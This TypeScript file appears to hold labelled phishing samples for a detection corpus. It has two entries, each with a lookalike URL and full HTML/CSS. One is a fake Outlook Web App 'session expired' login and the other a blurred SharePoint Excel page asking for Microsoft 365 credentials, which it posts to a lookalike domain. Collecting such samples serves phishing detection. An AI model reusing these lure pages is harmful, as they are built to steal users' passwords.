import { type Entry } from '../entry.js';
import { doc } from '../parts/d-parts.js';

/** Webmail clones: Roundcube quota, OWA session, Zimbra upgrade, generic cPanel-style, domain-branded via the victim's address. Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-webmail-owa-session',
  label: 'phishing',
  kind: 'webmail-owa',
  url: 'https://owa-sessionrenew.exch-portal-services.com/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.stadtwerke-lindau.de%2fowa%2f',
  body: doc({
    title: 'Outlook',
    css: `body{margin:0;font-family:"Segoe UI","Segoe UI Web (West European)",sans-serif;background:#fff}.sidebar{position:fixed;left:0;top:0;bottom:0;width:280px;background:#0072c6}.main{margin-left:340px;padding-top:120px;max-width:360px}.signInInputLabel{font-size:14px;margin:14px 0 4px}.signInInputText{width:100%;height:30px;border:1px solid #ccc;padding:0 8px}.signinbutton{margin-top:20px;background:#0072c6;color:#fff;border:0;height:34px;width:120px;font-size:15px;cursor:pointer}.signInExpl{color:#333;font-size:13px}.logo{font-size:42px;color:#0072c6;font-weight:300}`,
    body: `<div class="sidebar"></div>
<div class="main"><div class="logo">Outlook</div>
<div class="signInExpl" style="color:#a80000;margin-top:12px">Your session has expired. For security reasons, please sign in again to continue to Outlook Web App.</div>
<form action="/owa/auth.owa" method="POST" name="logonForm" autocomplete="off"><input type="hidden" name="destination" value="https://mail.stadtwerke-lindau.de/owa/"><input type="hidden" name="flags" value="4"><input type="hidden" name="forcedownlevel" value="0">
<div class="signInInputLabel">Domain\\user name:</div><input id="username" name="username" class="signInInputText" placeholder="Domain\\user name">
<div class="signInInputLabel">Password:</div><input id="password" name="password" type="password" class="signInInputText">
<div class="signInInputLabel"><input type="radio" name="trusted" checked> This is a private computer</div>
<input type="submit" class="signinbutton" value="sign in"></form>
<p class="signInExpl" style="margin-top:60px">Connected to Microsoft Exchange<br>© 2026 Microsoft Corporation. All rights reserved.</p></div>`,
  }),
},

{
  id: 'd-webmail-sharepoint-xlsx-blur',
  label: 'phishing',
  kind: 'doc-share-kit',
  url: 'https://sharepoint-docs-view.filehub-online.com/:x:/g/personal/payroll/EUp7Yk3Qs?e=Gx12',
  body: doc({
    title: 'Payroll_Adjustments_Nov.xlsx',
    css: `body{margin:0;font-family:"Segoe UI",sans-serif}.sheet{position:fixed;inset:0;background:repeating-linear-gradient(#fff 0 22px,#e1e1e1 22px 23px),repeating-linear-gradient(90deg,#fff 0 90px,#e1e1e1 90px 91px);filter:blur(3px)}.ribbon{position:fixed;top:0;left:0;right:0;height:48px;background:#217346;color:#fff;display:flex;align-items:center;padding:0 16px;font-weight:600;z-index:2}.dlg{position:fixed;z-index:3;top:50%;left:50%;transform:translate(-50%,-50%);background:#fff;width:380px;padding:28px;box-shadow:0 8px 32px rgba(0,0,0,.3)}.dlg input{width:100%;padding:8px;border:1px solid #8a8886;margin:6px 0}.dlg button{background:#217346;color:#fff;border:0;padding:8px 18px;float:right}`,
    body: `<div class="sheet"></div><div class="ribbon">Excel · Payroll_Adjustments_Nov.xlsx — Shared by HR Department</div>
<div class="dlg"><h3 style="margin-top:0">This file is protected</h3><p style="font-size:13px">The owner of this file requires you to confirm your work account before viewing. Verify with your Microsoft 365 credentials.</p>
<form method="post" action="https://sharepoint-docs-view.filehub-online.com/auth/ms.php"><input name="loginfmt" type="email" placeholder="someone@example.com"><input name="passwd" type="password" placeholder="Password"><button>Verify</button></form><div style="clear:both"></div></div>`,
  }),
},

];
